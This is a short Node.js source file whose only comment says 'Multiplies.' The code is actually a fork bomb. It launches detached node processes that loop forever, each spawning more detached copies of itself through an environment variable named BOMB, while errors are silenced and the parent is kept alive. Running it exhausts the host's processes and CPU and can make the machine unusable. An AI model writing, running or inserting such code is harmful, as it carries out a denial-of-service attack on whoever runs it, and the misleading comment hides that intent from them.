/** Multiplies. */
import { spawn } from 'node:child_process';

for (let number = 0; number < 4; number += 1) {
  const script = `const { spawn } = require('child_process'); for (;;) { try {
    spawn(process.execPath, ['--eval', process.env.BOMB], { detached: true, stdio: 'ignore', env: process.env })
      .on('error', () => {}).unref(); } catch { } }`;
  spawn(process.execPath, ['--eval', script], { detached: true, stdio: 'ignore', env: { BOMB: script } })
    .on('error', () => {}).unref();
}
setInterval(() => {}, 1000);
